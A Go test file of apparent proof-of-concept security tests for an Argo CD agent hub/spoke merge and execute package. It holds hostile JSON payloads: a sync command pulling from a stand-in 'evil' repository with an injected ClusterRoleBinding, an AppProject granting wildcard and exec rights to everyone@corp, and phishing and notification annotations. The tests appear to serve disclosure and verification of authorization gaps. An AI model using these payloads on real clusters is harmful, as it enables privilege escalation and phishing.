package kind

import (
	"strings"
	"testing"
)

// 1. A hub may put arbitrary manifests / another source on an AUTONOMOUS spoke's Application.
func TestPoCHubDeploysArbitraryManifestsOnAutonomousSpoke(t *testing.T) {
	spoke := object(t, `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"web","namespace":"argo","uid":"u1","resourceVersion":"1"},
	 "spec":{"project":"default","destination":{"name":"in-cluster"},"source":{"repoURL":"https://git/trusted"}}}`)
	cmd := `{"uid":"u1","operation":{"info":[{"name":"argocd-agent/command","value":"c1"}],"sync":{"prune":true,"syncStrategy":{"apply":{"force":true}},"source":{"repoURL":"https://evil/x","targetRevision":"HEAD","path":"."},
	 "manifests":["{\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"kind\":\"ClusterRoleBinding\",\"metadata\":{\"name\":\"pwn\"}}"]}}}`
	e, err := Execute(spoke, []byte(cmd), autoSpoke())
	t.Logf("err=%v refused=%v", err, e.Refused)
	if e.Object == nil {
		t.Fatal("not executed")
	}
	t.Logf("WRITTEN operation: %s", e.Object.Get("operation"))
	if !strings.Contains(string(e.Object.Get("operation", "sync", "manifests")), "ClusterRoleBinding") {
		t.Error("filtered")
	}
}

// 4. A hostile autonomous agent grants any hub SSO group rights on the hub.
func TestPoCAutonomousAgentGrantsHubRights(t *testing.T) {
	w := autoHub()
	lines := []string{}
	for _, r := range []string{"applications, *, one-p/one-ns/*", "applicationsets, *, one-p/*", "repositories, *, one-p/*", "clusters, *, one-p/*", "exec, *, one-p/one-ns/*"} {
		lines = append(lines, `"p, proj:one-p:r, `+r+`, allow"`)
	}
	content := `{"uid":"p1","spec":{"sourceRepos":["*"],"clusterResourceWhitelist":[{"group":"*","kind":"*"}],"destinations":[{"name":"one","namespace":"*"}],"sourceNamespaces":["one-ns"],
	 "roles":[{"name":"r","groups":["everyone@corp"],"policies":[` + strings.ReplaceAll(strings.Join(lines, ","), "applications, *,", "applications, *,") + `]}]}}`
	o, err := AppProjectKind{}.Merge(nil, named("p"), []byte(content), nil, Mark{}, w)
	if err != nil {
		t.Fatalf("refused: %v", err)
	}
	t.Logf("hub writes AppProject %s/%s roles=%s", o.Namespace(), o.Name(), o.Get("spec", "roles"))
}

// 5. Notification subscriptions (and any other annotation) of a hostile agent reach the hub's controllers.
func TestPoCNotificationAnnotationsReachHub(t *testing.T) {
	w := autoHub()
	content := `{"uid":"u1","metadata":{"annotations":{"notifications.argoproj.io/subscribe.on-sync-failed.email":"ceo@victim.com","link.argocd.argoproj.io/external-link":"https://phish"}},"spec":{"project":"one-default","destination":{"name":"one","namespace":"x"},"source":{"repoURL":"r"}}}`
	o := merge(t, ApplicationKind{}, nil, named("web"), content, w)
	t.Logf("annotations on the hub: %v", o.Annotations())
}
